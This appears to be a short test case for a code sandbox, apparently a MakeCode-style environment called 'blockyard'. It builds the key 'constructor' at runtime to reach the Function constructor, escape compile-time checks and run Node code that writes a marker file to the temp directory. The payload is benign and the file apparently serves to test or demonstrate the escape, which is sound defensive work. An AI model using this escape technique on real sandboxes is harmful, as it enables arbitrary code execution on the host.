// The same escape with keys built while the program runs, which no compile-time check can see.
let key = "constr" + "uctor"
let anything: any = 0
let F = anything[key][key]
F("const fs = process.getBuiltinModule('fs'); const os = process.getBuiltinModule('os'); fs.writeFileSync(os.tmpdir() + '/blockyard-attack-written.txt', 'written by a program')")()
serial.writeLine("done")
